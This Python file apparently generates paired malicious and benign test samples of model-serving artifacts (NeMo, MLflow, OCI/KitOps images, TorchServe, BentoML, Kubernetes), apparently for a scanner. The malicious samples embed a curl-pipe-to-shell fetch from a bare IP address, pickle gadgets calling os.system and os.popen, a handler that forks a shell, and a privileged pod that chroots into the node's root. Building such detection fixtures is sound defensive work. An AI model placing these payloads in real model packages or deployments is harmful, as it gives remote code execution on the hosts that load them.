"""What serves a model: NeMo, MLflow, OCI, TorchServe, BentoML, Kubernetes."""
import gzip
import hashlib
import io
import json
import tarfile
import zipfile

from assembly import build, call, dot, glob, model, new, pickle
from pair import SHELL
from twelfth.archives import tar
from twelfth.weights import random, safetensors

SHARD = safetensors({"embed.weight": ("F32", [4, 4], random(16).tobytes())})
FETCH = "curl -fsSL http://203.0.113.88/run.sh | sh"


def nemo(config):
    return tar([("./model_config.yaml", config.encode(), {}), ("./model_weights.ckpt", SHARD, {})], tarfile.GNU_FORMAT)


def layout(config, layers, kind="application/vnd.oci.image"):
    """An OCI image layout; `layers` are (media type, bytes)."""
    files = {"oci-layout": '{"imageLayoutVersion": "1.0.0"}'}

    def blob(data, media, **more):
        digest = hashlib.sha256(data).hexdigest()
        files[f"blobs/sha256/{digest}"] = data
        return {"mediaType": media, "digest": "sha256:" + digest, "size": len(data), **more}

    first = blob(json.dumps(config).encode(), f"{kind}.config.v1+json")
    rest = [blob(data, media) for media, data in layers]
    manifest = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": first, "layers": rest}
    top = blob(json.dumps(manifest).encode(), "application/vnd.oci.image.manifest.v1+json")
    return {"index.json": json.dumps({"schemaVersion": 2, "manifests": [top]}), **files}


def image(entry):
    layer = gzip.compress(tar([("models/model.safetensors", SHARD, {})]), mtime=0)
    config = {"architecture": "amd64", "os": "linux", "config": {"Entrypoint": entry, "WorkingDir": "/models"}, "rootfs": {"type": "layers", "diff_ids": []}}
    return layout(config, [("application/vnd.oci.image.layer.v1.tar+gzip", layer)])


def add(out):
    base = "target: nemo.collections.asr.models.EncDecCTCModelBPE\nname: tiny\nlog:\n  _target_: {}\n"
    run = base.format("logging.config.dictConfig") + "  config:\n    version: 1\n    handlers:\n      file:\n        (): os.system\n        command: touch marker\n    root:\n      handlers: [file]\n"
    calm = base.format("logging.Formatter") + "  fmt: '%(levelname)s %(message)s'\n  style: '%'\n"
    out.add(
        "deployments", "nemo-log-config", nemo(run), nemo(calm), prove="twelfth-hydra", file="tiny.nemo",
        why="CVE-2025-23304's class: the _target_ is logging's own dictConfig, whose handler factory is os.system; the twin makes a formatter",
    )
    project = "name: tiny\npython_env: python_env.yaml\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, default: 0.1}\n    command: \"%s\"\n"
    more = {"python_env.yaml": "python: '3.11'\ndependencies: [mlflow]\n", "train.py": "print('training')\n"}
    out.add(
        "deployments", "mlproject-command", {"MLproject": project % ("python train.py --alpha {alpha}; " + FETCH), **more}, {"MLproject": project % "python train.py --alpha {alpha}; echo done", **more},
        why="CVE-2024-37061: mlflow runs the command of an entry point in a shell, and it fetches and runs a script; not run, it uses the network",
    )
    mlmodel = "flavors:\n  python_function:\n    cloudpickle_version: 3.1.1\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    python_version: 3.11.7\n    env: {virtualenv: python_env.yaml}\nmlflow_version: 3.5.0\nmodel_uuid: 5f2c\n"
    flavour = lambda state: {"python_model.pkl": pickle(state), "MLmodel": mlmodel, "python_env.yaml": "python: 3.11.7\n"}
    hooked = call(dot("weakref", "finalize"), call(glob("collections", "UserDict")), dot("platform", "os", "system"), SHELL)
    out.add(
        "deployments", "mlflow-finalizer", flavour(model(hooked)), flavour(model(build(new(glob("types", "SimpleNamespace")), {"command": SHELL}))), prove="pickle",
        why="the pyfunc pickle registers a finalizer on an object that dies at once, so its command runs on load without a call to it in the pickle",
    )
    out.add(
        "deployments", "image-entry-point", image(["/bin/sh", "-c", FETCH + "; exec vllm serve /models"]), image(["/bin/sh", "-c", "ulimit -n 65536; exec vllm serve /models"]),
        why="the entry point of the image fetches a script from a bare address and runs it before it serves",
    )
    kit = {"manifestVersion": "1.0.0", "package": {"name": "tiny"}, "model": {"name": "tiny", "path": "model/estimator.pkl"}}
    packed = lambda state: layout(kit, [("application/vnd.kitops.modelkit.model.v1.tar+gzip", gzip.compress(tar([("model/estimator.pkl", pickle(state), {})]), mtime=0))], "application/vnd.kitops.modelkit")
    out.add(
        "deployments", "modelkit-layer", packed(model(call(dot("fnmatch", "os", "popen"), SHELL))),
        packed(model(call(dot("fnmatch", "translate"), "*.txt"))), prove="twelfth-layer",
        why="the model layer of a KitOps package, named by digest only, holds a pickle that opens a process",
    )
    handler = "import json\nimport os\n\n\nclass Handler:\n    def initialize(self, context):\n        self.context = context\n\n    def handle(self, data, context):\n        return [json.dumps(len(d)) for d in data]\n\n\n"

    def mar(tail):
        out = io.BytesIO()
        manifest = {"createdOn": "01/05/2026", "runtime": "python", "model": {"modelName": "tiny", "serializedFile": "model.safetensors", "handler": "handler.py", "modelVersion": "1.0"}, "archiverVersion": "0.12.0"}
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
            z.writestr("model.safetensors", SHARD)
            z.writestr("handler.py", handler + tail)
        return out.getvalue()

    out.add(
        "deployments", "archive-handler", mar("if os.fork() == 0:\n    os.execvp('sh', ['sh', '-c', 'touch marker'])\nos.wait()\n"), mar("WORKERS = int(os.environ.get('WORKERS', '1'))\n"),
        prove="twelfth-handler:handler.py", file="tiny.mar", why="the handler of a TorchServe archive forks a shell when it is imported; the twin reads a setting",
    )
    bento = "service: service:Tiny\nname: tiny\nversion: '1.0'\ncreation_time: '2026-05-01'\nimage:\n  base_image: python:3.11-slim\n  commands:\n    - %s\nmodels:\n  - tag: tiny:1\n"
    out.add(
        "deployments", "bento-image-command", {"bento.yaml": bento % FETCH, "models/tiny/model.safetensors": SHARD}, {"bento.yaml": bento % "apt-get install -y --no-install-recommends libgomp1", "models/tiny/model.safetensors": SHARD},
        why="a build command of the service's image fetches a script from a bare address and runs it as root",
    )
    pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: tiny-server}\nspec:\n  hostPID: %s\n  containers:\n    - name: serve\n      image: vllm/vllm-openai:v0.11.0\n      args: [serve, /models]\n" \
          "      securityContext: {privileged: %s}\n      volumeMounts: [{name: models, mountPath: %s}]\n%s  volumes: [{name: models, hostPath: {path: %s}}]\n"
    steal = "      lifecycle: {postStart: {exec: {command: [sh, -c, \"chroot /host sh -c '" + FETCH + "'\"]}}}\n"
    out.add(
        "deployments", "host-root-pod", {"deploy/pod.yaml": pod % ("true", "true", "/host", steal, "/"), "model.safetensors": SHARD},
        {"deploy/pod.yaml": pod % ("false", "false", "/models", "      lifecycle: {preStop: {exec: {command: [sh, -c, \"sleep 5\"]}}}\n", "/srv/models"), "model.safetensors": SHARD},
        why="the manifest beside the weights mounts the root of the node and runs a fetched script on it, outside of the container",
    )
